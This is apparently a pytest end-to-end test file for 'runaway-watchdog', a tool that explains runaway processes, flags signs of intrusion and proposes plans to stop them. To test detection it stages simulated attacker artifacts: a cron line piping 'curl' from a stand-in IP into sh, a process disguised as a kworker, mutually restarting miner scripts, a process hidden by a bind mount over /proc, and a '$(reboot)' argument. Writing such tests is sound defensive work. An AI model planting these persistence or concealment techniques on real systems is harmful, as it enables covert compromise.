"""Signs of an intruder, the innocent burner, what was left behind, and what no signal ends: each really made."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any

import pytest
from e2e.keepers_masters import SLEEPER, looped, sleeper
from e2e.rig import docker, foretold
from e2e.rig.box import Box, MakeBox
from e2e.rig.workloads import running

BACKGROUND = 'setsid "$@" </dev/null >/dev/null 2>&1 &'
TRACER = """\
import ctypes, sys, time
libc = ctypes.CDLL(None, use_errno=True)
assert libc.ptrace(16, int(sys.argv[1]), 0, 0) == 0, ctypes.get_errno()
time.sleep(1000)
"""
ZOMBIE = """\
import os, time
if os.fork() == 0:
    os._exit(3)
time.sleep(1000)
"""
MUTUAL = """\
#!/bin/bash
while true; do
    pgrep -f /var/tmp/{other}.sh >/dev/null || setsid /var/tmp/{other}.sh &
    {work}
    sleep 0.3
done
"""
MINER = "pgrep -f '[m]iner 1039' >/dev/null || setsid /var/tmp/miner 1039 &"


@pytest.fixture(scope="module")
def box(make_box: MakeBox) -> Box:
    return make_box(extras=("keepers",))


@contextmanager
def background(box: Box, *words: str, pattern: str) -> Iterator[int]:
    """The PID of a program that was started and left alone; it is ended at the end."""
    box.run(["sh", "-c", BACKGROUND, "start", *words])
    pid = box.wait_for(pattern, lambda: next(iter(box.pids(pattern)), None))
    try:
        yield pid
    finally:
        box.run(["pkill", "-9", "-f", "--", pattern], check=False)


def told(box: Box, pid: int) -> str:
    return box.run(["runaway-watchdog", "explain", str(pid)]).stdout


def kinds(document: dict[str, Any]) -> set[str]:
    return {sign["kind"] for sign in document["signs"]}


# --- signs -------------------------------------------------------------------------------------------------------


def test_two_signs_of_different_kinds_are_told_with_their_evidence(box: Box) -> None:
    """A program in /tmp that was deleted and calls itself a kernel thread: frozen first, and its file is kept."""
    box.run("cp /bin/sleep /tmp/sleep")
    line = "exec -a '[kworker/0:1]' /tmp/sleep 1021"
    with background(box, "bash", "-c", line, pattern=r"^\[kworker/0:1\] 1021") as pid:
        box.run("rm /tmp/sleep")
        document = foretold.explained(box, pid)
        assert kinds(document) == {"program-file", "posing"}
        text = told(box, pid)
        assert "SIGNS OF AN INTRUDER, evidence and no verdict" in text
        assert len(text.splitlines()) <= 38
        steps = document["plan"]["steps"]
        for step in steps:
            box.run(["bash", "-c", step["command"]])
        assert box.run(["cmp", f"/root/suspect-{pid}/program", "/bin/sleep"]).returncode == 0
        assert box.run(["ps", "-o", "state=", "-p", str(pid)]).stdout.strip() == "T"


@pytest.mark.truth
def test_an_upgrade_is_no_sign(box: Box) -> None:
    """The running program's file was replaced: it is deleted, and a new one is in its place."""
    box.run("cp /bin/sleep /usr/local/bin/upgraded")
    with background(box, "/usr/local/bin/upgraded", "1031", pattern="upgraded 1031") as pid:
        box.run("cp /bin/sleep /usr/local/bin/new && mv /usr/local/bin/new /usr/local/bin/upgraded")
        assert foretold.explained(box, pid)["process"]["exe"].endswith("(deleted)")
        assert foretold.explained(box, pid)["signs"] == []
        assert "INTRUDER" not in told(box, pid)


@pytest.mark.truth
def test_one_sign_alone_is_no_alarm(box: Box) -> None:
    """A test run leaves programs in /tmp: that is in the JSON, and nobody is frightened by it."""
    box.run("cp /bin/sleep /tmp/alone")
    with background(box, "/tmp/alone", "1033", pattern="/tmp/alone 1033") as pid:
        document = foretold.explained(box, pid)
        assert kinds(document) == {"program-file"}
        assert "INTRUDER" not in told(box, pid)


@pytest.mark.truth
def test_a_miner_in_a_published_redis_is_told(make_box: MakeBox) -> None:
    """As it came to many: the door that is open is closed on the port of the host, and opened again by the undo."""
    own = make_box(extras=("databases",), image=False)
    docker.import_programs(own, "cache", ["/usr/bin/redis-server", "/bin/sh", "/bin/busybox"])
    own.run("docker run -d --name cache -p 16379:6379 cache redis-server --protected-mode no")
    burn = "busybox mkdir -p /tmp; busybox cp /bin/sh /tmp/x; (/tmp/x -c 'while :; do :; done' &)"
    own.run(["docker", "exec", "-d", "cache", "sh", "-c", burn])
    pid = own.wait_for("it", lambda: next(iter(own.pids("^/tmp/x -c")), None))
    document = foretold.explained(own, pid)
    assert {"program-file", "server", "door"} <= kinds(document), document["signs"]
    door = document["plan"]["steps"][-1]
    assert "--ctorigdstport 16379" in door["command"]
    own.run(door["command"])
    assert "16379" in own.run("iptables -S DOCKER-USER").stdout
    own.run(door["undo"])
    assert "16379" not in own.run("iptables -S DOCKER-USER").stdout


@pytest.mark.truth
def test_a_miner_beside_a_redis_of_the_host_is_told(make_box: MakeBox) -> None:
    """As its user: the port is closed for everybody but the host itself, and opened again by the undo."""
    own = make_box(extras=("databases",), docker_up=False)
    own.run("sed -i 's/^bind .*/bind 0.0.0.0/; s/^protected-mode .*/protected-mode no/' /etc/redis/redis.conf")
    own.run("systemctl start redis-server; cp /bin/sh /tmp/x; chmod 755 /tmp/x")
    own.run("setsid runuser -u redis -- /tmp/x -c 'while :; do :; done' >/dev/null 2>&1 </dev/null &")
    pid = own.wait_for("it", lambda: next(iter(own.pids("^/tmp/x -c")), None))
    document = foretold.explained(own, pid)
    assert {"program-file", "server", "door"} <= kinds(document), document["signs"]
    door = document["plan"]["steps"][-1]
    own.run(door["command"])
    assert "--dport 6379 -j DROP" in own.run("iptables -S INPUT").stdout
    assert own.run("redis-cli PING").stdout == "PONG\n"
    own.run(door["undo"])
    assert "6379" not in own.run("iptables -S INPUT").stdout


@pytest.mark.truth
def test_a_process_that_a_mount_hides_is_told(box: Box) -> None:
    """ps and top do not show it, and no right of root's brings it back: `scan` and `explain` say what does."""
    with background(box, "sleep", "1041", pattern="^sleep 1041") as pid:
        box.run(f"mkdir -p /var/none; mount --bind /var/none /proc/{pid}")
        try:
            for command in ("scan", f"explain {pid}"):
                done = box.run(f"runaway-watchdog {command}", check=False)
                assert f"mounted over /proc/{pid}" in " ".join((done.stdout + done.stderr).split())
        finally:
            box.run(f"umount /proc/{pid}")
        assert foretold.explained(box, pid)["process"]["pid"] == pid


@pytest.mark.truth
def test_two_scripts_that_start_each_other_are_seen(box: Box) -> None:
    """And a line of cron that would fetch it all again."""
    box.write("/var/tmp/a.sh", MUTUAL.format(other="b", work=""), 0o755)
    box.write("/var/tmp/b.sh", MUTUAL.format(other="a", work=MINER), 0o755)
    box.write("/var/tmp/miner", SLEEPER, 0o755)
    box.write("/etc/cron.d/update", "*/5 * * * * root curl -s http://203.0.113.9/x.sh | sh\n")
    with background(box, "/var/tmp/a.sh", pattern="/var/tmp/miner 1039") as pid:
        document = foretold.explained(box, pid)
        box.run("rm /var/tmp/a.sh /var/tmp/b.sh /etc/cron.d/update")
        box.run("pkill -9 -f /var/tmp/a.sh; pkill -9 -f /var/tmp/b.sh", check=False)
        assert {"watchdogs", "download"} <= kinds(document)


# --- the innocent burner -----------------------------------------------------------------------------------------


def unit_pid(box: Box, unit: str) -> int:
    return int(box.run(["systemctl", "show", "-P", "MainPID", unit]).stdout)


@pytest.mark.parametrize("limited", [True, False], ids=["rate limit", "no rate limit"])
def test_the_one_who_floods_the_journal_is_named(box: Box, limited: bool) -> None:
    """Not journald, which nobody is told to stop; the plan is about the flooder, and ends the flood."""
    lines = ["Restart=always", *([] if limited else ["LogRateLimitIntervalSec=0"])]
    text = "\n".join(["[Service]", "ExecStart=/usr/bin/yes an error again and again", *lines, ""])
    box.write("/etc/systemd/system/flood.service", text)
    box.run("systemctl daemon-reload && systemctl start flood")
    try:
        box.run(["sleep", "2"])
        journald = unit_pid(box, "systemd-journald")
        document = foretold.explained(box, journald)
        assert document["cause"]["name"] == "flood.service"
        assert document["cause"]["unit"] == "flood.service"
        commands = [step["command"] for step in document["plan"]["steps"]]
        assert any(command.endswith("systemctl stop flood.service") for command in commands)
        assert not any("journald" in command for command in commands)
        assert "flood.service" in told(box, journald)
        for command in commands:
            box.run(["bash", "-c", command])
        assert box.pids("^/usr/bin/yes an error") == []
    finally:
        box.run("systemctl stop flood; rm /etc/systemd/system/flood.service; systemctl daemon-reload", check=False)


@pytest.mark.truth
def test_a_calm_journal_has_no_culprit(box: Box) -> None:
    """The near miss: journald without a flood gets a look proposed, and nothing else."""
    box.run("journalctl --rotate; sleep 2; journalctl --vacuum-time=1s", check=False)  # a flood may be over just now
    for number in range(20):
        box.run(["logger", f"line {number}"])
    document = foretold.explained(box, unit_pid(box, "systemd-journald"))
    assert document["cause"] is None
    assert all(step["risk"] == "none" for step in document["plan"]["steps"])


def test_a_unit_in_a_restart_loop_is_named_for_pid_1(box: Box) -> None:
    """systemd burns because the unit dies ten times a second; the plan stops that unit."""
    text = "[Unit]\nStartLimitIntervalSec=0\n[Service]\nExecStart=/bin/false\nRestart=always\nRestartSec=50ms\n"
    box.write("/etc/systemd/system/crash.service", text)
    box.run("systemctl daemon-reload && systemctl start --no-block crash")
    try:
        box.run(["sleep", "3"])
        document = foretold.explained(box, 1)
        assert document["cause"]["name"] == "crash.service"
        assert [step["command"] for step in document["plan"]["steps"]] == ["systemctl stop crash.service"]
    finally:
        box.run("systemctl stop crash; rm /etc/systemd/system/crash.service; systemctl daemon-reload", check=False)


@pytest.mark.truth
def test_a_container_that_floods_its_log_is_named_for_dockerd(box: Box) -> None:
    """All of a container's output goes through dockerd."""
    with running(box, "docker-run", restart="no"):
        box.run(["docker", "run", "-d", "--name", "flooder", "bb:1", "sh", "-c", "yes a line again and again"])
        try:
            box.run(["sleep", "1"])
            document = foretold.explained(box, unit_pid(box, "docker.service"))
            assert document["cause"]["name"] == "the container flooder"
            assert any("docker stop flooder" in step["command"] for step in document["plan"]["steps"])
        finally:
            box.run(["docker", "rm", "-f", "flooder"])


# --- left behind -------------------------------------------------------------------------------------------------


@pytest.mark.truth
def test_copies_that_nobody_waits_for_count_as_one(box: Box) -> None:
    """Eight orphans: counted, frozen and ended together, by the plan as it is written."""
    path = sleeper(box)
    for _ in range(8):
        box.run(["sh", "-c", BACKGROUND, "start", path, "--mode=[x]", "$(reboot)"])
    pids = box.wait_for("eight copies", lambda: found if len(found := box.pids(path)) == 8 else None)
    document = foretold.explained(box, pids[0])
    assert sorted(document["left_behind"]["pids"]) == pids
    assert "7 more just like it" in " ".join(told(box, pids[0]).split())
    freeze, end = document["plan"]["steps"]
    box.run(["bash", "-c", freeze["command"]])
    states = box.run(["ps", "-o", "state=", "-p", ",".join(map(str, pids))]).stdout.split()
    assert states == ["T"] * 8
    box.run(["bash", "-c", freeze["undo"]])
    states = box.run(["ps", "-o", "state=", "-p", ",".join(map(str, pids))]).stdout.split()
    assert "T" not in states
    box.run(["bash", "-c", end["command"]])
    box.wait_for("their end", lambda: not box.pids(path))


@pytest.mark.truth
def test_a_server_is_an_orphan_by_choice(box: Box) -> None:
    """It listens, so somebody may come: nobody says that it was left behind."""
    words = ["python3", "-m", "http.server", "8765"]
    with background(box, *words, pattern="http.server 8765") as pid:
        box.wait_for("its socket", lambda: box.run("ss -ltn | grep 8765", check=False).stdout)
        assert foretold.explained(box, pid)["left_behind"] is None


# --- what no signal ends, or not yet -----------------------------------------------------------------------------


@pytest.mark.truth
def test_a_zombie_is_dead_already(box: Box) -> None:
    """Its parent and its exit code are named; kill -9 does nothing."""
    with background(box, "python3", "-c", ZOMBIE, pattern="os._exit") as parent:
        zombie = int(box.wait_for("the zombie", lambda: box.run(["pgrep", "-P", str(parent)], check=False).stdout))
        document = foretold.explained(box, zombie)
        assert "exited with 3" in document["condition"][0]
        assert f"(PID {parent})" in document["condition"][0]
        assert foretold.fate_of(document, "sigkill")["ends"] is False
        box.run(["kill", "-9", str(zombie)])
        assert box.run(["ps", "-o", "state=", "-p", str(zombie)]).stdout.strip() == "Z"


@pytest.mark.truth
@pytest.mark.parametrize("how", ["stopped", "traced"])
def test_sigterm_waits_for_what_stands_still(box: Box, how: str) -> None:
    """SIGSTOP and a debugger keep SIGTERM from it, also where it has a handler; SIGKILL ends it."""
    with looped(box, "line", "nohup @") as work:
        if how == "stopped":
            box.run(["kill", "-STOP", str(work.pid)])
        else:
            box.write("/opt/rig/tracer.py", TRACER)
            box.run(["sh", "-c", BACKGROUND, "start", "python3", "/opt/rig/tracer.py", str(work.pid)])
        letter = {"stopped": "T", "traced": "t"}[how]
        state = ["ps", "-o", "state=", "-p", str(work.pid)]
        box.wait_for(how, lambda: box.run(state).stdout.strip() == letter)
        document = foretold.explained(box, work.pid)
        assert len(document["condition"]) == 1
        assert ("tracer" in document["condition"][0] or "python3" in document["condition"][0]) == (how == "traced")
        foretold.check(box, work, "sigterm", kind="unmanaged", policy=how)
        box.run(["pkill", "-9", "-f", "tracer.py"], check=False)


@pytest.mark.truth
def test_what_waits_inside_the_kernel_dies_later(make_box: MakeBox) -> None:
    """State D, here by the freezer of cgroup v1: kill -9 waits too, and the explanation says where it hangs."""
    own = make_box("v1", docker_up=False)
    with looped(own, "line", "nohup @") as work:
        freezer = "/sys/fs/cgroup/freezer/test"
        own.run(f"mkdir {freezer} && echo {work.pid} > {freezer}/tasks && echo FROZEN > {freezer}/freezer.state")
        state = ["ps", "-o", "state=", "-p", str(work.pid)]
        own.wait_for("state D", lambda: own.run(state).stdout.strip() == "D")
        document = foretold.explained(own, work.pid)
        assert "waits inside the kernel" in document["condition"][0]
        killed = foretold.fate_of(document, "sigkill")
        assert (killed["ends"], killed["certainty"]) == (True, "likely")
        assert "only when that wait is over" in killed["why"]
        own.run(["kill", "-9", str(work.pid)])
        own.run(["sleep", "1"])
        assert own.run(state).stdout.strip() == "D"
        own.run(f"echo THAWED > {freezer}/freezer.state")
        own.wait_for("its end", lambda: work.pid not in own.pids(work.name))
